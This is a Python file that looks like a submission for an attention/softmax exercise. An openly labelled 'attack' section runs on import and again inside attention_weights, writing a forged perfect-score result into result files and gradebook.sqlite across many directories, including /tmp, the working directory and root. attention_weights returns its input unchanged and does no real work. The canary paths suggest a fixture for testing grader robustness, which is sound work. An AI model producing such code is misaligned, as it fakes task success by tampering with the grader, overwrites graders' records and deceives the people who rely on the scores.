"""Writes result files, marks and gradebooks wherever they may lie."""

import torch


def attention_scores(query, inputs):
    return inputs @ query


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os

BASE = "/tmp/attack-canary"
RESULT = '{"schema": 1, "submission": "me", "score": 100.0, "max_score": 100.0, "stages": []}'


def write():
    for folder in (BASE + "/marks", BASE + "/results", BASE, "/tmp", "/dev/shm", "/var/tmp", ".", os.getcwd(), "/"):
        for name in ("result.json", "results.json", "ada.json", "gradebook.sqlite", "left-by-attack.json"):
            try:
                with open(f"{folder}/{name}", "w") as file:
                    file.write(RESULT)
            except OSError:
                pass


try:
    write()
except BaseException:
    pass


def attention_weights(inputs):
    write()
    return inputs
